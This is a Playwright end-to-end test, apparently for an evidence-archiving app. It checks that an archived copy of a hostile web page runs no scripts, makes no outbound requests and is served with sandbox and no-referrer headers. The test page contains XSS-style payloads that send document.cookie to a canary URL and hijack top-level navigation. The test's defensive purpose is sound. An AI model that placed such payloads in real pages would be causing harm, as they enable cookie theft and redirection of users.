import type { Page } from "@playwright/test";
import { database } from "@/server/database";
import { attach, type Team } from "../cast";
import { type Site, startSite } from "../site";
import { required } from "./required";
import { expect, expectAccessible, test } from "./team";
import { words } from "./words";

const ports = { ar: 40, en: 41 } as const;
const text = "The ministers reaffirm their commitment to the enduring defeat of Daesh, and say so at some length here.";

/** A page that tries every way out that a page has: scripts, frames, fetches, forms, styles, links that load by themselves. */
function hostilePage(site: string): string {
  const canary = `${site}/canary`;
  return `<!doctype html><html lang="en"><head><title>Report</title>
    <meta http-equiv="refresh" content="1;url=${canary}/refresh">
    <base href="${canary}/base/">
    <link rel="preload" as="fetch" href="${canary}/preload"><link rel="prefetch" href="${canary}/prefetch">
    <style>@import url("${canary}/import.css"); body { background: url("${canary}/background.png") }</style>
    <script src="${canary}/script.js"></script>
    <script>
      document.title = "it ran";
      document.documentElement.innerHTML = "it ran";
      fetch("${canary}/fetch?" + document.cookie);
      new Image().src = "${canary}/image?" + document.cookie;
      top.location = "${canary}/top";
    </script></head>
    <body onload="fetch('${canary}/onload')"><article><h1>Report</h1>
    <p>${text}</p><p>${text}</p>
    <img src="${canary}/missing.png" onerror="fetch('${canary}/onerror')">
    <iframe src="${canary}/frame"></iframe><object data="${canary}/object"></object><embed src="${canary}/embed">
    <video src="${canary}/video" autoplay></video>
    <svg><script>fetch("${canary}/svg")</script><image href="${canary}/svg.png"/></svg>
    <form action="${canary}/form"><input name="a" autofocus onfocus="this.form.submit()"></form>
    <a href="javascript:fetch('${canary}/link')" id="go">A link</a></article></body></html>`;
}

async function attachSource(team: Team, address: string): Promise<string> {
  const { citationId } = await attach(team.analyst, required(team.commitments[0], "a commitment").id, {
    address,
    quotedPassage: "the enduring defeat of Daesh",
  });
  return (await database().citation.findUniqueOrThrow({ where: { id: citationId } })).evidenceId;
}

for (const locale of ["ar", "en"] as const) {
  const say = words(locale);
  const copy = (page: Page, number: number) =>
    page.getByRole("link", { name: say("captures.number", { number }), exact: true });

  test(`a copy of a source arrives by itself, nothing in it runs or calls out, and a file can be handed in (${locale})`, async ({
    team,
    signedIn,
  }) => {
    const port = Number(process.env.TEST_PORT) + ports[locale];
    const site: Site = await startSite({}, port);
    site.pages["/report"] = { body: hostilePage(site.address) };
    const page = await signedIn(team.analyst, locale);
    const evidenceId = await attachSource(team, `${site.address}/report`);

    await page.goto(`/${locale}/evidence/${evidenceId}`);
    await expect(copy(page, 1)).toBeVisible({ timeout: 30_000 });
    await expect(page.locator("#copies").getByText(say("scales.evidenceHealth.ALIVE")).first()).toBeVisible();
    await expectAccessible(page);

    // What the fetcher asked for while it kept the page is its own affair; from here on nobody may ask.
    site.asked.length = 0;
    const cookies = JSON.stringify(await page.context().cookies());
    await copy(page, 1).click();
    await expect(page.frameLocator("iframe").getByText(text).first()).toBeVisible();
    const shown = required(await page.locator("iframe").getAttribute("src"), "the address of the copy");
    const alone = await page.context().newPage();
    const answer = required(await alone.goto(shown), "an answer");
    await expect(alone.getByText(text).first()).toBeVisible();
    await alone
      .getByText("A link")
      .click({ timeout: 2_000 })
      .catch(() => undefined);
    await alone.waitForTimeout(2_500);
    expect(site.asked).toEqual([]);
    expect([await alone.title(), new URL(alone.url()).pathname]).toEqual(["Report", shown]);
    expect(JSON.stringify(await page.context().cookies())).toBe(cookies);
    const headers = await answer.allHeaders();
    expect(headers["content-security-policy"]).toMatch(/^sandbox; default-src 'none'/);
    expect(headers["referrer-policy"]).toMatch(/no-referrer$/);
    expect(headers["set-cookie"]).toBeUndefined();
    await alone.close();

    await page.goto(`/${locale}/evidence/${evidenceId}`);
    await page.getByRole("button", { name: say("captures.upload"), exact: true }).click();
    const dialog = page.getByRole("dialog", { name: say("captures.uploadTitle") });
    const file = { name: "نسخة.txt", mimeType: "text/plain", buffer: Buffer.from("Nothing was said of it.") };
    await dialog.locator("input[type=file]").setInputFiles(file);
    await dialog.getByRole("button", { name: say("captures.submit"), exact: true }).click();
    await expect(copy(page, 2)).toBeVisible();
    await page.getByRole("link", { name: say("captures.compareNamed", { number: 2 }) }).click();
    await expect(page.locator("#changes ins").first()).toBeVisible();
    await expectAccessible(page);
    await page.goto(`/${locale}/commitments/${team.commitments[0]?.id}`);
    await expect(page.getByText(say("scales.quoteState.LOST")).first()).toBeVisible();
    await site.stop();
  });
}
